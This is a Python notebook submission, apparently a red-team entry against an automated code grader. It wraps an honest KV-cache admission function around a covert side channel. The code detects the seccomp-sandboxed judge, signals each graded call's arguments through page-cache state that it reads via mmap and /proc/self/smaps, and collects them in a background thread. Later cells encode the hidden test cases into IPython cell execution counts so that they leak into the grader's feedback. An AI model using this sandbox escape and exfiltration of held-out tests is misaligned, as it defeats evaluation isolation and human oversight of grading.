# an HONEST kv_admission (full points) whose calls in the judge's child are also sent to the student's own kernel over redteam12's page-cache line (mmap fault-around + /proc/self/smaps; the kernel only acknowledges, it holds no formula), and the kernel writes the hidden cases it heard into the feedback as its cells' execution counts (the shell reached as exit._ip; 7 bytes a plain cell, shown as the cell's prompt In [N]:, which VerdictsOnly keeps)
# target: ex06_2
# metadata: extra
import math
import mmap
import os
import re
import time

_DIR = os.path.join(os.path.dirname(os.__file__), "test")
_FILES = [os.path.join(_DIR, n) for n in ("test_descr.py", "test_logging.py", "test_decimal.py",
                                           "test_ssl.py", "test_socket.py", "test_typing.py")]
_PG = 4096
_REAL = [os.path.realpath(p) for p in _FILES]


def _slots():
    """(file index, page) of every signal page: page p+1 beside its anchor p, so a 2-page
    mapping [p, p+1] that touches p (cached) maps p+1 only if it is cached (fault-around:
    both in one aligned 16-page window). The two pages before each anchor are never read, so
    a plain read of a signal page finds one cached page before it and reads that page alone
    (more would look like a stream to the kernel's readahead; a signal page at an even
    index shares a 2-page folio with the page after it)."""
    out = []
    for i, path in enumerate(_FILES):
        n = os.path.getsize(path) // _PG
        out += [(i, w + 4 * k + 3) for w in range(0, n - 15, 16) for k in range(4)]
    return out


_S = _slots()
_FD = [os.open(p, os.O_RDONLY) for p in _FILES]
_ASK = _S[0:49]     # 5 argument bytes, the mode bit, a checksum byte
_ASTROBE = _S[49]
_TSTROBES = (_S[50], _S[64])  # the answer's strobe, one per phase (calls alternate)
_TELL = _S[51:63]   # the answer's code (2 bits), its complement (2), the checksum echoed (8)
_UP = _S[63]        # the kernel's heartbeat (loaded and dropped every 20 ms)


def _load(slot):
    """The page loaded: a fault on a one-page mapping told to expect random access
    (``madvise`` ``MADV_RANDOM``: the kernel reads that page alone, no neighbour)."""
    m = mmap.mmap(_FD[slot[0]], _PG, prot=mmap.PROT_READ, offset=slot[1] * _PG)
    m.madvise(mmap.MADV_RANDOM)
    m[0]
    m.close()


_SMAPS = re.compile(r"^\S+ \S+ ([0-9a-f]+) \S+ \S+ +(\S*/test_\w+\.py)\n(?:.*\n){0,3}?Rss: +(\d+)",
                    re.M)


def _cached(slots):
    """Which of ``slots`` are in the page cache: no page is loaded (fault-around maps only
    cached pages; ``Rss`` of each 2-page mapping says whether its second page came). The
    text is searched by one regular expression: few Python steps (the judge counts them)."""
    maps = [mmap.mmap(_FD[f], 2 * _PG, prot=mmap.PROT_READ, offset=(p - 1) * _PG)
            for f, p in slots]
    for m in maps:
        m.madvise(mmap.MADV_RANDOM)  # an anchor not cached loads alone, no neighbour
        m[0]
    with open("/proc/self/smaps") as fh:
        text = fh.read()
    for m in maps:
        m.close()
    rss = {(path, int(off, 16)): int(kb) for off, path, kb in _SMAPS.findall(text)}
    return [rss.get((_REAL[f], (p - 1) * _PG), 0) >= 8 for f, p in slots]


def _bits(data, n):
    return [bool(data >> k & 1) for k in range(n)]


def _in_the_judge():
    with open("/proc/self/status") as f:  # the judge's child runs under a seccomp filter
        return any(line.split() == ["Seccomp:", "2"] for line in f)


_JUDGED = _in_the_judge()
_MODES = ("reserve", "on_demand")
_CODES = ("admit", "wait", "reject")
_up = []
_phase = [0]


def _wait(slots, state, until, pause=0.001):
    """Polls ``slots`` until the first ``len(state)`` are as ``state`` says: what it saw
    (None: not before ``until``)."""
    while time.monotonic() < until:
        got = _cached(slots)
        if got[:len(state)] == state:
            return got
        time.sleep(pause)
    return None


def _mine(prompt_len, max_new_tokens, free_blocks, num_blocks, block_size, admission):
    """The answer, honestly: blocks for the whole request must fit the pool at all; then
    the blocks needed now (all of them when reserving, the prompt's when on demand)."""
    per_block = block_size
    total = math.ceil((prompt_len + max_new_tokens) / per_block)
    if total > num_blocks:
        return "reject"
    if admission == "on_demand":
        now = math.ceil(prompt_len / per_block)
    else:
        now = total
    return "admit" if now <= free_blocks else "wait"


def kv_admission(prompt_len, max_new_tokens, free_blocks, num_blocks, block_size,
                 admission="reserve"):
    """'admit', 'wait' or 'reject' for a request under a KV budget of num_blocks blocks."""
    mine = _mine(prompt_len, max_new_tokens, free_blocks, num_blocks, block_size, admission)
    _tell(prompt_len, max_new_tokens, free_blocks, num_blocks, block_size, admission)
    return mine


def _tell(prompt_len, max_new_tokens, free_blocks, num_blocks, block_size, admission):
    """In the judge: the call's arguments to the student's kernel (it acknowledges)."""
    args = (prompt_len, max_new_tokens, free_blocks, num_blocks, block_size)
    if not _JUDGED or admission not in _MODES or not all(0 <= a < 256 for a in args):
        return "wait"
    if not _up:  # the first call: wait for the kernel's heartbeat
        _up.append(bool(_wait([_UP], [False], time.monotonic() + 40, 0.01)
                        and _wait([_UP], [True], time.monotonic() + 2)))
    if not _up[0]:
        return "wait"
    check = (sum(args) + 7 * _MODES.index(admission)) % 251
    word = sum(a << (8 * k) for k, a in enumerate(args)) | _MODES.index(admission) << 40 | check << 41
    if not _up[0]:
        return "wait"
    for _ in range(2):
        end = time.monotonic() + 2
        _phase[0] ^= 1
        strobe = _TSTROBES[_phase[0]]
        if not _wait([strobe], [False], end):
            continue  # the kernel has not cleared this phase's last answer yet
        for slot, bit in zip(_ASK, _bits(word, 49)):
            if bit:
                _load(slot)
        _load(_ASTROBE)
        got = _wait([strobe] + _TELL, [True], end)  # the strobe looked at first: the
        if not got:  # answer's pages, loaded before it, are there when it is
            continue
        code = sum(1 << k for k in range(2) if got[1 + k])
        comp = sum(1 << k for k in range(2) if got[3 + k])
        echo = sum(1 << k for k in range(8) if got[5 + k])
        if code < 3 and comp == code ^ 3 and echo == check:
            return _CODES[code]
    _up[0] = False  # the kernel stopped listening: ask nothing more (each try costs seconds)
    return "wait"
# --- next cell ---
import threading  # noqa: E402


def _drop(slots):
    for f, p in slots:
        os.posix_fadvise(_FD[f], p * _PG, _PG, os.POSIX_FADV_DONTNEED)


def _reset():
    """Every signal page dropped (until it is), every anchor cached."""
    for f, p in _S[:65]:
        os.pread(_FD[f], 1, (p - 1) * _PG)
    for _ in range(50):
        _drop(_S[:65])
        if not any(_cached(_S[:65])):
            return True
    return False


def _serve(until):
    beat = time.monotonic()
    while time.monotonic() < until:
        got = _cached([_ASTROBE] + _ASK)  # the strobe first: the bits came before it
        if not got[0]:
            if time.monotonic() > beat + 0.02:
                _load(_UP) if not _cached([_UP])[0] else _drop([_UP])
                beat = time.monotonic()
            time.sleep(0.0003)
            continue
        word = sum(1 << k for k in range(49) if got[1 + k])
        args = [word >> (8 * k) & 255 for k in range(5)]
        mode, check = word >> 40 & 1, word >> 41 & 255
        _drop(_ASK + [_ASTROBE] + _TELL + list(_TSTROBES))  # and the last answer
        while any(_cached(_ASK + [_ASTROBE] + _TELL + list(_TSTROBES))):
            _drop(_ASK + [_ASTROBE] + _TELL + list(_TSTROBES))
        if (sum(args) + 7 * mode) % 251 != check:
            code = 3  # not an answer: the child asks again
        else:
            code = 0  # an acknowledgement: the kernel computes nothing
            _heard.append((*args, _MODES[mode]))
        for slot, bit in zip(_TELL, _bits(code | (code ^ 3) << 2 | check << 4, 12)):
            if bit:
                _load(slot)
        _phase[0] ^= 1
        _load(_TSTROBES[_phase[0]])


def _hold(most=18.0, quiet=4.0):
    """Keeps the kernel (and its server thread) busy here while the judge still asks: a cell
    has Execute.timeout (20 s in the test class); the next cell holds on."""
    t0 = seen = time.monotonic()
    n = len(_heard)
    while time.monotonic() < t0 + most and time.monotonic() < seen + quiet:
        if len(_heard) != n:
            n, seen = len(_heard), time.monotonic()
        time.sleep(0.05)
    print("heard", len(_heard), "calls of the judge so far")


if not _JUDGED:
    for _fd in _FD:
        os.posix_fadvise(_fd, 0, 0, os.POSIX_FADV_RANDOM)  # the kernel's reads: one page each
    _heard = []
    print("reset:", _reset())
    threading.Thread(target=_serve, args=(time.monotonic() + 900,), daemon=True).start()
    _hold(18.0, 15.0)
kv_admission = kv_admission  # binds a name the test cell reads: grading runs this cell (demos.demo_cells)
# --- next cell ---
_hold()
kv_admission = kv_admission
# --- next cell ---
_hold()
kv_admission = kv_admission
# --- next cell ---
_hold()
_visible = {(10, 6, 1, 4, 16, "reserve"), (10, 7, 1, 4, 16, "reserve"),
            (10, 7, 1, 4, 16, "on_demand"), (60, 10, 4, 4, 16, "reserve"),
            (60, 10, 4, 4, 16, "on_demand"), (20, 20, 2, 8, 16, "on_demand")}
_hidden = [q for q in dict.fromkeys(_heard) if q not in _visible]
_said = ("[rt9-leak" + f"] ({len(_hidden)} hidden cases heard) ").encode()
_said += b"".join(bytes(q[:5]) + bytes([_MODES.index(q[5])]) + b";" for q in _hidden)
_chunks = [int.from_bytes(_said[k:k + 7].ljust(7, b" "), "big") for k in range(0, len(_said), 7)]
_sh = exit._ip  # IPython's ExitAutocall holds the shell: no get_ipython() for the audit
print(len(_hidden), "hidden cases,", len(_chunks), "prompts")
_sh.execution_count = _chunks.pop(0)  # the next cell's prompt
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
kv_admission = kv_admission
